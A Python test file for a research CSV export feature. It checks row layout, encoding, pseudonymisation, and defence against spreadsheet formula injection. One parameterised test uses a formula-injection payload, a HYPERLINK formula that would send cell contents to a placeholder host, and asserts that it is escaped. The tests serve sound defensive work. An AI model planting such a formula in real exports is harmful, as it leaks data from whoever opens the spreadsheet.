"""CSV for researchers: ``ecomap export CASE -o X.csv`` as a spreadsheet or a script reads it."""

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings

from ecomap.interchange.csv_export import COLUMNS, case_to_csv, safe_cell
from ecomap.interchange.reader import read_case
from ecomap.model.case import Case
from tests.conftest import SAM_JSON, assert_one_line_error, run_ecomap
from tests.strategies import cases

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def read_rows(data: bytes) -> tuple[list[str], list[dict[str, str]]]:
    text = data.decode("utf-8")
    reader = csv.reader(io.StringIO(text, newline=""))
    header = next(reader)
    rows = [dict(zip(header, row, strict=True)) for row in reader]
    return header, rows


def export_csv(case_file: Path, out: Path, *options: str) -> tuple[list[str], list[dict[str, str]]]:
    result = run_ecomap("export", case_file, "-o", out, *options)
    assert result.returncode == 0, result.stderr
    return read_rows(out.read_bytes())


def expected_rows(case: Case, numbers: list[int]) -> list[dict[str, str]]:
    """The rows the documented columns call for, built from the model, unescaped."""
    rows = []
    for number, version in zip(numbers, case.versions, strict=True):
        for tie in version.map.ties:
            source, target = version.map.node(tie.source), version.map.node(tie.target)
            rows.append(
                {
                    "version": str(number),
                    "version_label": version.label,
                    "version_date": version.date,
                    "tie_id": tie.id,
                    "source_id": source.id,
                    "source_label": source.label,
                    "source_kind": source.kind.value,
                    "source_domain": source.domain.value,
                    "target_id": target.id,
                    "target_label": target.label,
                    "target_kind": target.kind.value,
                    "target_domain": target.domain.value,
                    "capital": tie.capital.value,
                    "strength": tie.strength.value,
                    "stressful": "true" if tie.stressful else "false",
                    "flow": tie.flow.value,
                    "notes": tie.notes,
                }
            )
    return rows


TEXT_COLUMNS = ("version_label", "tie_id", "source_id", "source_label", "target_id", "target_label", "notes")
"""Columns holding the user's own text; the others hold dates, numbers and fixed words."""


def protected(row: dict[str, str]) -> dict[str, str]:
    """``row`` as the documented formula protection writes it."""
    return {k: "'" + v if k in TEXT_COLUMNS and v.startswith(FORMULA_STARTS) else v for k, v in row.items()}


def document(client: str, nodes: list[dict[str, Any]], ties: list[dict[str, Any]], **case: str) -> dict[str, Any]:
    return {
        "format": "ecomap",
        "format_version": 1,
        "case": {"client": client, **case},
        "versions": [
            {
                "label": "Start",
                "date": "2026-01-05",
                "note": "version note: private",
                "map": {"nodes": nodes, "ties": ties},
            }
        ],
    }


def make_case(tmp_path: Path, data: dict[str, Any]) -> Path:
    source = tmp_path / "in.json"
    source.write_text(json.dumps(data, ensure_ascii=False), encoding="utf-8")
    case = tmp_path / "case.ecomap"
    result = run_ecomap("import", source, "-o", case)
    assert result.returncode == 0, result.stderr
    return case


# -- the whole case ----------------------------------------------------------------------


def test_export_writes_the_documented_header_and_one_row_per_tie_per_version(sam_case: Path, tmp_path: Path) -> None:
    header, rows = export_csv(sam_case, tmp_path / "sam.csv")
    assert header == list(COLUMNS)
    sam, _ = read_case(SAM_JSON)
    numbers = list(range(1, len(sam.versions) + 1))
    assert len(rows) == sum(len(v.map.ties) for v in sam.versions)
    assert rows == expected_rows(sam, numbers)


def test_the_file_is_plain_utf8_with_crlf_rows_and_no_byte_order_mark(sam_case: Path, tmp_path: Path) -> None:
    out = tmp_path / "sam.csv"
    export_csv(sam_case, out)
    data = out.read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    assert data.startswith(",".join(COLUMNS).encode() + b"\r\n")


def test_only_the_versions_asked_for_are_exported_with_their_case_numbers(sam_case: Path, tmp_path: Path) -> None:
    _, rows = export_csv(sam_case, tmp_path / "v2.csv", "--versions", "2")
    sam, _ = read_case(SAM_JSON)
    assert {row["version"] for row in rows} == {"2"}
    assert rows == expected_rows(Case(sam.details, [sam.versions[1]]), [2])


def test_a_version_that_does_not_exist_writes_no_file(sam_case: Path, tmp_path: Path) -> None:
    out = tmp_path / "v9.csv"
    result = run_ecomap("export", sam_case, "-o", out, "--versions", "9")
    assert_one_line_error(result, "9")
    assert not out.exists()


# -- formulas and text -------------------------------------------------------------------


@pytest.mark.parametrize(
    "label",
    ['=HYPERLINK("http://example.invalid/?leak="&A1,"click")', "+44 7700 900123", "-1+2", "@SUM(A1:A9)", "=1+1"],
)
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(tmp_path: Path, label: str) -> None:
    data = document(
        "Zoë",
        [
            {"id": "c", "label": "Zoë", "kind": "client"},
            {"id": "x", "label": label, "kind": "person", "domain": "friends"},
        ],
        [{"source": "c", "target": "x", "capital": "bonding", "strength": "strong", "notes": label}],
    )
    data["versions"][0]["label"] = label
    case = make_case(tmp_path, data)
    _, [row] = export_csv(case, tmp_path / "out.csv")
    assert row["target_label"] == "'" + label
    assert row["notes"] == "'" + label
    assert row["version_label"] == "'" + label
    assert row["source_label"] == "Zoë"


def test_text_that_merely_contains_formula_characters_is_left_alone() -> None:
    for text in ("Mum = best", "Dad+Nan", "a@b.invalid", "Zoë-Müller", "", "'quoted'"):
        assert safe_cell(text) == text
    for text in ("=A1", "+1", "-1", "@x", "\tx", "\rx"):
        assert safe_cell(text) == "'" + text


def test_unicode_is_kept_as_utf8(tmp_path: Path) -> None:
    data = document(
        "Zoë Müller",
        [
            {"id": "c", "label": "Zoë Müller", "kind": "client"},
            {"id": "o", "label": "Oma Jürgen 👵", "kind": "person", "domain": "family"},
        ],
        [{"source": "o", "target": "c", "capital": "bonding", "strength": "strong", "notes": "Grüße, «ça va»"}],
    )
    case = make_case(tmp_path, data)
    out = tmp_path / "out.csv"
    _, [row] = export_csv(case, out)
    raw = out.read_bytes()
    assert "Zoë Müller".encode() in raw
    assert "Oma Jürgen 👵".encode() in raw
    assert (row["source_label"], row["target_label"], row["notes"]) == ("Oma Jürgen 👵", "Zoë Müller", "Grüße, «ça va»")


def test_commas_quotes_and_line_breaks_in_notes_survive(tmp_path: Path) -> None:
    notes = 'Says "fine", but:\nmisses Tuesdays,\r\nand more'
    data = document(
        "Kim",
        [{"id": "c", "label": "Kim", "kind": "client"}, {"id": "d", "label": "Dad", "kind": "person"}],
        [{"source": "c", "target": "d", "capital": "bonding", "strength": "tenuous", "notes": notes}],
    )
    _, [row] = export_csv(make_case(tmp_path, data), tmp_path / "out.csv")
    assert row["notes"] == notes


def test_pseudonymised_csv_holds_no_client_name_and_no_notes(tmp_path: Path) -> None:
    data = document(
        "Zoë Müller",
        [
            {"id": "zoe", "label": "Zoë Müller", "kind": "client", "notes": "NODE-NOTE-1"},
            {"id": "dad", "label": "Dad", "kind": "person", "domain": "family", "notes": "NODE-NOTE-2"},
            {"id": "friend", "label": "Priyanka Oduya", "kind": "person", "domain": "friends"},
        ],
        [
            {"source": "zoe", "target": "dad", "capital": "bonding", "strength": "strong", "notes": "TIE-NOTE-1"},
            {"source": "friend", "target": "zoe", "capital": "bonding", "strength": "moderate", "notes": "TIE-NOTE-2"},
        ],
        notes="CASE-NOTE",
        reference="REF-123",
    )
    case = make_case(tmp_path, data)
    out = tmp_path / "pseudo.csv"
    header, rows = export_csv(case, out, "--pseudonymise")
    text = out.read_bytes().decode("utf-8")
    for secret in ("Zoë", "Müller", "zoe", "Priyanka", "Oduya", "NOTE", "private"):
        assert secret not in text, secret
    assert header == list(COLUMNS)
    assert len(rows) == 2
    assert all(row["notes"] == "" for row in rows)
    assert {row["source_kind"] for row in rows} | {row["target_kind"] for row in rows} >= {"client"}


# -- case_to_csv directly ----------------------------------------------------------------


@settings(max_examples=60, deadline=None)
@given(cases(max_versions=3))
def test_every_tie_becomes_exactly_its_row(case: Case) -> None:
    numbers = [n * 10 for n in range(1, len(case.versions) + 1)]
    header, rows = read_rows(case_to_csv(case, numbers))
    assert header == list(COLUMNS)
    assert rows == [protected(row) for row in expected_rows(case, numbers)]
    for row in rows:
        for value in row.values():
            assert not value.startswith(FORMULA_STARTS), value
